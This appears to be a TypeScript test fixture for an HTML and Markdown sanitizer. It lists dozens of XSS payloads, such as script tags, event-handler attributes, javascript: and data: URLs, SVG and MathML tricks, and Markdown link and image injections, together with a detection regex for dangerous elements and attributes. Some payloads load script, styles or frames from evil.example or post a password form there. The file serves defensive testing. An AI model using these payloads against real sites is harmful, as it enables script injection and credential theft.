// One collection of attacks for every text that people write and others read: notes (HTML), texts of lessons
// (Markdown), what is pasted into the editor. Each would call `attacked()` or load something if it got through.

/** HTML that must run and load nothing. */
export const htmlAttacks = [
  "<script>attacked()</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  '<img src=x onerror="attacked()">',
  "<img src='https://evil.example/seen.png'>",
  '<a href="javascript:attacked()">x</a>',
  '<a href="&#106;avascript:attacked()">x</a>',
  '<a href="java\tscript:attacked()">x</a>',
  '<a href=" javascript:attacked()">x</a>',
  '<a href="vbscript:attacked()">x</a>',
  '<a href="data:text/html,<script>attacked()</script>">x</a>',
  '<p style="position:fixed;inset:0" onmouseover="attacked()">x</p>',
  "<iframe src=https://evil.example></iframe>",
  '<iframe srcdoc="<script>attacked()</script>"></iframe>',
  "<svg><script>attacked()</script></svg>",
  "<svg onload=attacked()>",
  '<svg><a xlink:href="javascript:attacked()"><text>x</text></a></svg>',
  "<math><mtext></p><style><img src=x onerror=attacked()></style>",
  '<math><maction actiontype="statusline" xlink:href="javascript:attacked()">x</maction></math>',
  "<style>body{display:none}</style>",
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password></form>',
  '<object data="https://evil.example/x.swf"></object>',
  "<embed src=https://evil.example>",
  "<video><source onerror=attacked()></video>",
  "<details open ontoggle=attacked()>x</details>",
  '<body onload="attacked()">',
  '<noscript><p title="</noscript><img src=x onerror=attacked()>">',
  "<template><img src=x onerror=attacked()></template>",
  "<!--><img src=x onerror=attacked()>-->",
  "<<script>script>attacked()<</script>/script>",
  '<h3 id="root" name="cookie">x</h3>',
];

/** Markdown that must run and load nothing. */
export const markdownAttacks = [
  "[x](javascript:attacked())",
  "[x](JaVaScRiPt:attacked())",
  "[x](&#106;avascript:attacked())",
  "[x](<java\tscript:attacked()>)",
  "[x](vbscript:attacked())",
  "[x](data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+)",
  "<javascript:attacked()>",
  "[x]\n\n[x]: javascript:attacked()",
  "![x](javascript:attacked())",
  '![x" onerror="attacked()](/media/x.png)',
  '![x](/media/x.png"onerror="attacked())',
  '![x](/media/x.png "y\\" onerror=\\"attacked()")',
  '[x](https://a.example "\\" onclick=\\"attacked()")',
  '```"><script>attacked()</script>\nx\n```',
  "`<img src=x onerror=attacked()>`",
  "$\\href{javascript:attacked()}{x}$",
  "$\\text{<img src=x onerror=attacked()>}$",
  "$$\n\\includegraphics{https://evil.example/x.png}\n$$",
  'A[^"><img/src=x/onerror=attacked()>].\n\n[^"><img/src=x/onerror=attacked()>]: <script>attacked()</script>',
  "| <script>attacked()</script> |\n| --- |\n| <img src=x onerror=attacked()> |",
  "> [!NOTE]\n> <svg onload=attacked()>",
];

const attributes = String.raw`(?:\s+[\w:-]+(?:="[^"]*")?)*\s+`;

/** What is in none of the results: an element that runs, loads or sends something, or an attribute that does. */
export const dangerous = new RegExp(
  [
    String.raw`<\/?(?:script|iframe|object|embed|form|input|style|link|meta|base|svg|video|source|template|body|details|noscript)\b`,
    String.raw`<\w+${attributes}(?:on\w+|style|srcdoc|xlink:href)\s*=`,
    String.raw`<\w+${attributes}(?:href|src)="\s*(?:javascript|vbscript|data):`,
    String.raw`<img(?! src="\/media\/)`,
  ].join("|"),
  "i",
);
